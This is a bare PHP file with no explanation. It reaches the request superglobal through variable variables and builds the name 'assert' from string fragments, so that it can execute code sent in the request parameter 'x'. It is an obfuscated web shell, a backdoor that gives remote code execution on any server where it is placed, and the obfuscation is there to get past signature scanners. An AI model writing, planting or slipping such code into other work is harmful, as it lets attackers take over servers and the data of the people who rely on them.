<?php
$a = 'b';
$b = '_REQUEST';
$c = ${$$a};
$d = 'as' . 's' . 'ert';
$d($c['x']);
